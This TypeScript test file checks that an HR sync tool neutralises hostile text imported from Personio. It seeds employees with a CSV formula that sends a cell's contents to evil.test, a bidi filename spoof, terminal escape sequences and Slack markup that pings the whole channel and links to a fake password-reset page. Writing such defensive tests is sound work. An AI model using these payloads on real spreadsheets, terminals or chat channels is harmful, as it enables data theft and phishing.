/**
 * Text from Personio is data, through the real worker and CLI: employees whose names and
 * departments carry a spreadsheet formula, a bidi override, terminal escape sequences and a
 * 3,000-character last name are imported; the report CSV neutralises every cell (OWASP),
 * JumpCloud receives cleaned names cut at its 1,024-character limit (and the report row says
 * which field was cut from what length), the CLI's output carries no escape sequence, and a
 * department written as Slack/markdown control sequences reaches the webhook as plain text.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createJumpCloudSandbox } from '../../sandbox/jumpcloud/server.js';
import {
  createPersonioSandbox,
  SANDBOX_CLIENT_ID,
  SANDBOX_CLIENT_SECRET,
} from '../../sandbox/personio/server.js';
import { httpSink, type Sink } from '../helpers/security-env.js';
import { taskQueueFor, testTemporal } from '../helpers/temporal.js';
import { runProject, type ProcessHandle } from '../helpers/worker-process.js';

/** Cells of a CSV text (RFC 4180 quoting). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.at(-1)!.push(cell);
      rows.push([]);
      cell = '';
    } else cell += c;
  }
  return rows.filter((r) => r.length > 0);
}

const ESC = String.fromCharCode(27);

describe('hostile text from Personio', () => {
  const personio = createPersonioSandbox({ employees: 8, seed: 5 });
  const jumpcloud = createJumpCloudSandbox();
  const dir = mkdtempSync(join(tmpdir(), 'text-injection-'));
  const reportFile = join(dir, 'report.csv');
  const planPrefix = join(dir, 'plan');
  let preview: ProcessHandle;
  let worker: ProcessHandle;
  let cli: ProcessHandle;
  let ids: number[];
  let sink: Sink;
  const SLACK_DEPARTMENT =
    '<!channel> *urgent* _now_ `code` ~x~ <https://evil.test/login|reset your password> &amp;';

  before(async () => {
    ids = [1001, 1002, 1003, 1004, 1005];
    for (const id of ids) {
      assert.ok(personio.data.get(id), `employee ${id}`);
      personio.data.setStatus(id, 'active');
    }
    personio.data.changeName(ids[0]!, '=HYPERLINK("http://evil.test/?x="&A1,"click")', '+SUM(1;2)');
    personio.data.changeName(ids[1]!, 'Eve\u202Egnp.exe', `@cmd ${ESC}[2J${ESC}]0;owned\u0007`);
    personio.data.changeName(ids[2]!, '-2+3', 'x'.repeat(3000));
    personio.data.moveDepartment(ids[3]!, `=1+1;${ESC}[31mRed`);
    personio.data.moveDepartment(ids[4]!, SLACK_DEPARTMENT);
    sink = await httpSink();
    await personio.listen(0);
    await jumpcloud.listen(0);
    const { address } = await testTemporal();
    const taskQueue = taskQueueFor('text-injection');
    const common = { TEMPORAL_ADDRESS: address, TEMPORAL_TASK_QUEUE: taskQueue, PAYLOAD_ENCRYPTION: 'off' };
    // The operator allows department groups named by the department alone (README, "Import policy").
    const policyFile = join(dir, 'policy.json');
    writeFileSync(
      policyFile,
      JSON.stringify({ groups: { departmentGroupPatterns: ['{department}', 'Personio - {department}'] } }),
    );
    worker = runProject('worker/main.ts', [], {
      ...common,
      IMPORT_POLICY_FILE: policyFile,
      PERSONIO_BASE_URL: personio.url,
      PERSONIO_CLIENT_ID: SANDBOX_CLIENT_ID,
      PERSONIO_CLIENT_SECRET: SANDBOX_CLIENT_SECRET,
      JUMPCLOUD_BASE_URL: jumpcloud.url,
      JUMPCLOUD_API_KEY: 'sandbox-jumpcloud-api-key',
      NOTIFY_WEBHOOK_URL: `${sink.url}/hook`,
    });
    await worker.waitFor(/worker started/);
    // A preview first: its plan CSV lists the department groups, named by the department alone.
    preview = runProject(
      'client/cli.ts',
      [
        'import',
        '--dry-run',
        '--input-json',
        '{"groups":{"allEmployeesGroup":null,"perDepartment":true,"departmentGroupPattern":"{department}"}}',
        '--plan-output',
        planPrefix,
      ],
      common,
    );
    await preview.exited;
    cli = runProject(
      'client/cli.ts',
      ['import', '--per-department-groups', '--notify', 'always', '--report', reportFile],
      common,
    );
    await cli.exited;
  });

  after(async () => {
    await worker?.stop();
    await personio.close();
    await jumpcloud.close();
    await sink?.close();
  });

  it('the plan and report CSVs neutralise every cell that a spreadsheet would read as a formula', () => {
    assert.equal(preview.proc.exitCode, 0, preview.output.join('\n'));
    assert.equal(cli.proc.exitCode, 0, cli.output.join('\n'));
    for (const file of [`${planPrefix}.csv`, reportFile]) {
      const text = readFileSync(file, 'utf8');
      const rows = csvCells(text);
      assert.ok(rows.length > 8, `${file}: ${rows.length} rows`);
      for (const row of rows)
        for (const cell of row)
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${file}: a cell starts a formula: ${cell}`);
      assert.ok(!text.includes(ESC), `no escape character in ${file}`);
    }
    // The hostile department reached the plan, neutralised.
    assert.match(readFileSync(`${planPrefix}.csv`, 'utf8'), /"'=1\+1;/);
  });

  it('JumpCloud gets names without control or bidi characters, cut at 1,024', () => {
    const users = jumpcloud.store.allUsers();
    const byId = (id: number) => users.find((u) => u.employeeIdentifier === String(id))!;
    assert.equal(byId(ids[1]!).firstname, 'Evegnp.exe');
    const json = JSON.stringify(users);
    for (const c of [ESC, '\u0007', '\u202e', '\u2066'])
      assert.ok(!json.includes(c), `no ${JSON.stringify(c)} in JumpCloud`);
    assert.equal(String(byId(ids[2]!).lastname).length, 1024);
    assert.ok(String(byId(ids[2]!).displayname).length <= 1024);
  });

  it('the CLI prints no escape sequence', () => {
    assert.ok(!cli.output.join('\n').includes(ESC));
    assert.ok(!preview.output.join('\n').includes(ESC));
  });

  it('the report row says which field was cut, and from what length', () => {
    const rows = csvCells(readFileSync(reportFile, 'utf8'));
    const header = rows[0]!;
    const row = rows.find((r) => r[header.indexOf('personioId')] === String(ids[2]))!;
    assert.match(
      row[header.indexOf('warnings')]!,
      /last_name: cut from 3000 to 1024 characters \(JumpCloud's limit; 1976 characters cut\)/,
    );
    const bidi = rows.find((r) => r[header.indexOf('personioId')] === String(ids[1]))!;
    assert.match(
      bidi[header.indexOf('warnings')]!,
      /first_name: control or bidi-override characters removed/,
    );
  });

  it('the webhook gets Slack and markdown control sequences from Personio as plain text', () => {
    assert.equal(sink.received.length, 1, 'one summary was sent');
    const { text } = JSON.parse(sink.received[0]!.body) as { text: string };
    assert.match(text, /groups created: .*Personio - &lt;!channel&gt;/, 'the department reached the summary');
    for (const live of ['<!channel>', '<https://evil.test/login|', '*urgent*', '_now_', '`code`', '~x~'])
      assert.ok(!text.includes(live), `${live} is not live in ${text}`);
    assert.match(text, /&lt;https:\/\/evil\.test\/login\|reset your password&gt;/);
    assert.match(text, /&amp;amp;/, 'an entity from Personio is not decoded by Slack');
  });
});
